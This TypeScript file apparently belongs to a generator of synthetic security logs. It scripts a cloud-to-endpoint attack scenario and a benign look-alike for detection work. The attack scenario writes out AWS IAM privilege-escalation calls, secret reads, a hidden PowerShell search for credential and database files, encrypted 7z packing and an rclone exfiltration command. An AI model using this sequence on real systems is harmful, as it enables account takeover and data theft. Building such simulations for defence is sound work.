import { assumedRole, iamUser } from '../../records/aws.ts';
import { programConnected } from '../../records/windows.ts';
import { pidOf } from '../background/people.ts';
import { insideAddress, outsideAddress } from '../stage.ts';
import { CMD, EXPLORER, POWERSHELL, SYSTEM32 } from '../windows-paths.ts';
import { callAll, flowOut, lairOf, run, runAll, signInAtWork } from './moves.ts';
import type { ScenarioMaker } from './scenario-maker.ts';

export const cloudToEndpoint: ScenarioMaker = {
  name: 'cloud-to-endpoint',

  attack(story) {
    const { kit, dice, world, cast } = story;
    const victim = cast.person('engineering');
    const lair = lairOf(story);
    const drop = dice.chance(0.4) ? lair.address : cast.outside();
    story.lifeOf(victim, 8);
    const cli = dice.one(['aws-cli/2.27.50 md/awscrt#0.27.2 ua/2.1 os/linux#6.6.9 md/arch#x86_64 lang/python#3.12.9', 'Boto3/1.38.3 md/Botocore#1.38.3 ua/2.1 os/linux lang/python#3.12.9', 'aws-cli/2.27.50 os/linux#6.11.2-kali1 md/arch#x86_64 lang/python#3.12.9']);
    const session = { identity: assumedRole(kit, { role: victim.awsRole ?? 'Developer', session: victim.upn, key: `ASIA${dice.hex(16).toUpperCase()}` }), address: lair.address, userAgent: cli };
    story.step('call', 'The cloud is called from elsewhere with the user\'s session', 'initial-access', callAll(story, session, dice.some([['sts', 'GetCallerIdentity'], ['iam', 'ListAttachedRolePolicies'], ['iam', 'GetAccountAuthorizationDetails'], ['iam', 'ListRoles'], ['ec2', 'DescribeInstances']] as const, dice.int(3, 5))));
    story.wait(3, 60);
    const userName = dice.one(['svc-metrics', 'backup-reader', 'cfn-helper']);
    const key = `AKIA${dice.hex(16).toUpperCase()}`;
    const escalation = dice.chance(0.5)
      ? ([['iam', 'CreateAccessKey', { userName }, { accessKey: { accessKeyId: key, status: 'Active', userName } }], ['iam', 'AttachUserPolicy', { userName, policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }]] as const)
      : ([['iam', 'CreatePolicyVersion', { policyArn: `arn:aws:iam::${world.org.awsAccount}:policy/developers`, policyDocument: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}', setAsDefault: true }], ['iam', 'CreateAccessKey', { userName }, { accessKey: { accessKeyId: key, status: 'Active', userName } }]] as const);
    story.step('escalate', 'Rights of an administrator are taken', 'privilege-escalation', callAll(story, session, escalation));
    story.wait(2, 30);
    story.step('secrets', 'Secrets are read with the new key', 'credential-access', callAll(story, { ...session, identity: iamUser(kit, userName, key) }, [['sts', 'GetCallerIdentity'], ['secretsmanager', 'GetSecretValue', { secretId: 'vpn/endpoint-agent' }], ['ssm', 'GetParameter', { name: '/fleet/token', withDecryption: true }]]));
    story.wait(10, 120);
    const host = victim.laptop.name;
    const folder = dice.one([`C:\\Users\\${victim.account}\\AppData\\Local\\Temp\\`, 'C:\\ProgramData\\', 'C:\\Users\\Public\\']);
    const shellPid = pidOf(story);
    story.step('shell', 'A program in a folder of the user starts a shell on the laptop', 'execution', [
      run(story, { host, who: victim, image: `${folder}helper.exe`, commandLine: `${folder}helper.exe`, parentImage: EXPLORER, pid: shellPid - 4 }),
      run(story, { host, who: victim, image: POWERSHELL, commandLine: 'powershell.exe -nop -w hidden -c "Get-ChildItem $HOME -Recurse -Include *.sql,*.kdbx,*.xlsx"', parentImage: `${folder}helper.exe`, pid: shellPid, parentPid: shellPid - 4 }),
    ]);
    story.wait(2, 20);
    const archive = `${folder}${dice.hex(6)}.7z`;
    story.step('pack', 'Files are packed', 'collection', runAll(story, { host, who: victim, parentImage: POWERSHELL, parentPid: shellPid }, [[`${folder}7z.exe`, `7z.exe a -mx1 -p${dice.hex(8)} -mhe ${archive} C:\\Users\\${victim.account}\\source`], [`${SYSTEM32}whoami.exe`, 'whoami /all']]));
    story.wait(1, 15);
    const tool = `${folder}${dice.one(['rclone.exe', 'updater.exe', 'winscp.exe'])}`;
    const pid = pidOf(story);
    const address = insideAddress(world, victim, story.now());
    story.step('exfiltrate', 'They are sent outside', 'exfiltration', [
      run(story, { host, who: victim, image: tool, commandLine: `${tool} copy ${archive} remote:in --transfers 8`, parentImage: POWERSHELL, parentPid: shellPid, pid }),
      programConnected(kit, story.now() + 900, { host, who: victim, pid, image: tool, from: address, fromPort: 51_822, to: drop, toPort: 443 }),
      ...flowOut(story, { from: address, to: drop, port: dice.one([443, 8443, 22_443]), bytes: dice.int(260_000_000, 2_000_000_000), seconds: dice.int(120, 1_200), fromName: host }),
    ]);
    return story.end({ title: 'Cloud call, rights of an administrator, exfiltration from a laptop', description: `Stolen sessions of ${victim.name} call AWS from ${lair.place.city} and take rights there; then the laptop itself is emptied.`, severity: 'high', domains: ['cloud', 'endpoint', 'network'] });
  },

  /** Automation rotates keys, and a developer copies a build to the store of backups. */
  lookAlike(story) {
    const { kit, dice, world, cast } = story;
    const person = cast.person('engineering');
    story.lifeOf(person, 8);
    const rotation = { identity: assumedRole(kit, { role: 'key-rotation', session: 'key-rotation', key: `ASIA${dice.hex(16).toUpperCase()}` }), address: world.cloudAddress, userAgent: 'Boto3/1.38.3 md/Botocore#1.38.3 exec-env/AWS_Lambda_python3.13' };
    story.step('call', 'Keys are listed', 'discovery', callAll(story, rotation, [['iam', 'ListUsers'], ['iam', 'ListAccessKeys', { userName: 'svc-mailer' }]]));
    const userNames = dice.some(['svc-mailer', 'svc-partner-feed', 'svc-metrics', 'backup-reader'], 3);
    story.step('escalate', 'Each service gets a new key, and the old one goes', 'persistence', callAll(story, rotation, userNames.flatMap((userName) => [['iam', 'CreateAccessKey', { userName }, { accessKey: { accessKeyId: `AKIA${dice.hex(16).toUpperCase()}`, status: 'Active', userName } }], ['iam', 'UpdateAccessKey', { userName, status: 'Inactive' }]] as const)));
    story.wait(10, 90);
    story.step('sign-in', 'A developer signs in', 'initial-access', [signInAtWork(story, person)]);
    const tool = 'C:\\Program Files\\rclone\\rclone.exe';
    const address = insideAddress(world, person, story.now());
    story.step('exfiltrate', 'A build goes to the store of backups', 'exfiltration', [
      run(story, { host: person.laptop.name, who: person, image: tool, commandLine: 'rclone.exe copy C:\\build\\release.zip backup:releases', parentImage: CMD }),
      ...flowOut(story, { from: address, to: '198.18.0.40', port: 443, bytes: dice.int(210_000_000, 700_000_000), seconds: 300, fromName: person.laptop.name, name: 'store.backup-cloud.example' }),
      ...callAll(story, { identity: assumedRole(kit, { role: person.awsRole ?? 'Developer', session: person.upn, key: `ASIA${dice.hex(16).toUpperCase()}`, isMfa: true }), address: outsideAddress(world, person, story.now()), userAgent: 'aws-cli/2.27.50 os/windows#11' }, [['ecs', 'DescribeServices'], ['ecr', 'DescribeImages']]),
    ]);
    return story.end({ title: 'Keys are rotated, and a build is stored', description: 'Automation rotates the keys of services; a developer sends a large build to the store of backups.', domains: ['cloud', 'endpoint', 'network'] });
  },
};
